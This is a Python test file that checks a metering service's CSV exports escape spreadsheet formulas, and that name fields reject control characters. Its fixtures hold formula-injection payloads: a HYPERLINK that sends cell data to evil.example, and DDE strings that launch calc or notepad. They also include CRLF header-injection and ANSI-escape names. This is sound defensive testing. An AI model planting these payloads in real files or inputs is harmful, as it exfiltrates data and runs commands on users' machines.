"""Input chosen by someone else: values a developer controls (model names, session ids) reach
every export as text a spreadsheet will not run; names with control characters are refused on
every path that creates one."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import sys
import tempfile
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from ledger.accounts import Accounts
from ledger.catalog import Catalog, CatalogError, connect
from meterd.apps import SOCKET_FILE
from tests.dashboard_fixtures import *  # noqa: F403
from tests.dashboard_fixtures import Dashboard, parse

# Model names and session ids a developer can send, each a formula in a spreadsheet unless
# escaped, and the label the CSV must carry for it. The last one hides a formula after the
# separator and a line break: quoting keeps it inside its cell, so it needs no prefix.
HOSTILE_MODELS = {
    '=HYPERLINK("http://evil.example/?"&A1,"open")':
        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1,1)": "'@SUM(1,1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    'a,"=1+1"\n=2+2': 'a,"=1+1"\n=2+2',
}
HOSTILE_SESSIONS = {"=cmd|' /C notepad'!A1": "'=cmd|' /C notepad'!A1", "@SUM(9,9)": "'@SUM(9,9)",
                    "+1": "'+1", "-1": "'-1"}


@pytest.fixture
async def short_data_dir() -> AsyncIterator[str]:
    """A data directory with a path short enough for a Unix socket inside it (108 bytes)."""
    path = tempfile.mkdtemp(prefix="mtd-")
    yield path
    shutil.rmtree(path, ignore_errors=True)


async def _hostile_usage(dash: Dashboard) -> None:
    key = await dash.gateway.developer("Ada", "platform")
    for model in HOSTILE_MODELS:
        for session in HOSTILE_SESSIONS:
            async with dash.client.post("/v1/messages", json={
                    "model": model, "max_tokens": 10,
                    "messages": [{"role": "user", "content": "hi"}]},
                    headers={"x-api-key": key, "x-claude-code-session-id": session}) as r:
                assert r.status == 200, await r.text()
    await dash.roll_up()


def _formula_cells(text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet would read as a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _labels(text: str) -> set[str]:
    return {row["label"] for row in csv.DictReader(io.StringIO(text, newline=""))}


async def _cli(*args: str) -> tuple[int, str, str]:
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "meterd.cli", *args, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE)
    out, err = await proc.communicate()
    return proc.returncode or 0, out.decode(), err.decode()


async def _serve_socket(dash: Dashboard, data_dir: str) -> None:
    """Serve the test's app on the data directory's socket too, as `meterd serve` does, so
    the real CLI reaches it."""
    server = dash.client.server
    assert server.runner is not None
    site = web.UnixSite(server.runner, f"{data_dir}/{SOCKET_FILE}")
    await site.start()


async def test_csv_exports_escape_cells_that_would_be_formulas(
        start_dashboard: Callable[..., Awaitable[Dashboard]], short_data_dir: str) -> None:
    dash = await start_dashboard(data_dir=short_data_dir)
    await _hostile_usage(dash)
    finance = await dash.signed_in("finance")
    headers = {"x-api-key": await dash.admin_key("ro")}
    await _serve_socket(dash, short_data_dir)
    for dimension, hostile in (("model", HOSTILE_MODELS), ("session", HOSTILE_SESSIONS)):
        status, page_csv = await finance.get(f"/admin/reports.csv?dimension={dimension}")
        assert status == 200
        async with dash.client.get(f"/admin/api/v1/usage?format=csv&dimension={dimension}",
                                   headers=headers) as r:
            assert r.status == 200
            api_csv = await r.text()
        code, cli_csv, err = await _cli("report", "--csv", "--by", dimension,
                                        "--data-dir", short_data_dir)
        assert code == 0, err
        for where, text in (("dashboard", page_csv), ("api", api_csv), ("cli", cli_csv)):
            assert _formula_cells(text) == [], where
            # Escaped, not dropped or mangled: the value is there behind its quote.
            assert _labels(text) == set(hostile.values()), where


# --- names ---------------------------------------------------------------------------------

# Control characters (Unicode Cc, C0 and C1 alike) and line/paragraph separators, inside a
# name that is otherwise fine (at its ends they are whitespace, trimmed like any).
BAD_NAMES = ("Ada\r\nX-Injected: 1", "Ada\nLovelace", "Ada\rLovelace", "Ada\x00", "Ada\tL",
             "Ada\x1b[31m", "Ada\x7f", "Ada\x85L", "Ada\u2028L", "Ada\u2029L")
GOOD_NAMES = ("Zoë Ångström", "李雷", "O'Brien-Smith", "Ada Lovelace (ML)")


def _creations(catalog: Catalog, accounts: Accounts) -> dict[str, Callable[[str], Any]]:
    """Every catalog call that stores a name, taking that name."""
    return {
        "team": lambda n: catalog.create_team(n),
        "developer": lambda n: catalog.create_developer(n, f"{uuid.uuid4().hex}@example.com",
                                                        "platform"),
        "developer email": lambda n: catalog.create_developer(
            "Someone", n.replace("Ada", f"{uuid.uuid4().hex}@example.com"), "platform"),
        "account": lambda n: accounts.create_user(n.replace(" ", "-"), "", "finance",
                                                  password_hash="not-a-real-hash"),
        "admin key label": lambda n: accounts.issue_admin_key("ro", n),
    }


def test_every_name_the_catalog_stores_refuses_control_characters() -> None:
    catalog = Catalog(connect(":memory:"))
    catalog.create_team("platform")
    accounts = Accounts(catalog)
    before = catalog.audit(10_000)
    for what, create in _creations(catalog, accounts).items():
        for name in BAD_NAMES:
            with pytest.raises(CatalogError, match="control characters"):
                create(name)
            assert catalog.audit(10_000) == before, (what, name)  # nothing stored
    created = 0
    for what, create in _creations(catalog, accounts).items():
        if what in ("account", "developer email"):
            continue  # account names are ASCII letters, digits and . _ @ -; emails are emails
        for name in GOOD_NAMES:
            create(name)
            created += 1
    assert len(catalog.audit(10_000)) == len(before) + created


async def test_admin_api_refuses_control_characters_in_names(dashboard: Dashboard) -> None:
    await dashboard.gateway.developer("Ada", "platform")
    headers = {"x-api-key": await dashboard.admin_key("rw")}
    admin = dashboard.gateway.admin
    before = await admin.db(admin.catalog.audit, 10_000)
    for name in BAD_NAMES:
        for path, body in (("teams", {"name": name}),
                           ("developers", {"name": name, "email": "x@example.com",
                                           "team": "platform"}),
                           ("users", {"name": name.replace("Ada", "ada"), "role": "finance",
                                      "password": "a long enough password"}),
                           ("admin_keys", {"role": "ro", "label": name})):
            async with dashboard.client.post(f"/admin/api/v1/{path}", json=body,
                                             headers=headers) as r:
                assert r.status == 400, (path, name)
                error = (await r.json())["error"]
                assert error["type"] == "invalid_request_error"
                assert "control characters" in error["message"], (path, name)
    assert await admin.db(admin.catalog.audit, 10_000) == before


async def test_dashboard_forms_refuse_control_characters_in_names(dashboard: Dashboard) -> None:
    await dashboard.gateway.developer("Ada", "platform")
    browser = await dashboard.signed_in("admin")
    admin = dashboard.gateway.admin
    before = await admin.db(admin.catalog.audit, 10_000)
    for name in BAD_NAMES:
        for path, form in (("/admin/teams", {"name": name}),
                           ("/admin/developers", {"name": name, "email": "x@example.com",
                                                  "team": "platform"}),
                           ("/admin/access/users", {"name": name.replace("Ada", "ada"),
                                                    "role": "finance"}),
                           ("/admin/access/keys", {"role": "ro", "label": name})):
            await browser.get("/admin/teams")  # a page with a form: a fresh CSRF token
            status, html, _ = await browser.post(path, form, follow=True)
            assert status == 200, (path, name)
            flash = parse(html).select_one(".flash-error")
            assert flash is not None and "control characters" in flash.get_text(), (path, name)
    assert await admin.db(admin.catalog.audit, 10_000) == before


async def test_cli_refuses_control_characters_in_names(
        start_dashboard: Callable[..., Awaitable[Dashboard]], short_data_dir: str,
        tmp_path: Path) -> None:
    dash = await start_dashboard(data_dir=short_data_dir)
    await dash.gateway.developer("Ada", "platform")
    await _serve_socket(dash, short_data_dir)
    password = tmp_path / "pw"
    password.write_text("a long enough password\n")
    for argv in (["team", "create", "plat\r\nform"],
                 ["dev", "create", "Ada\nLovelace", "--email", "al@example.com",
                  "--team", "platform"],
                 ["user", "create", "ada\x1b[31m", "--role", "finance",
                  "--password-file", str(password)],
                 ["admin-key", "create", "--role", "ro", "--label", "nightly\u2028job"]):
        code, out, err = await _cli(*argv, "--data-dir", short_data_dir)
        assert code == 2, (argv, out, err)
        assert "control characters" in err, (argv, err)
    admin = dash.gateway.admin
    assert [t["name"] for t in await admin.db(admin.catalog.teams)] == ["platform"]
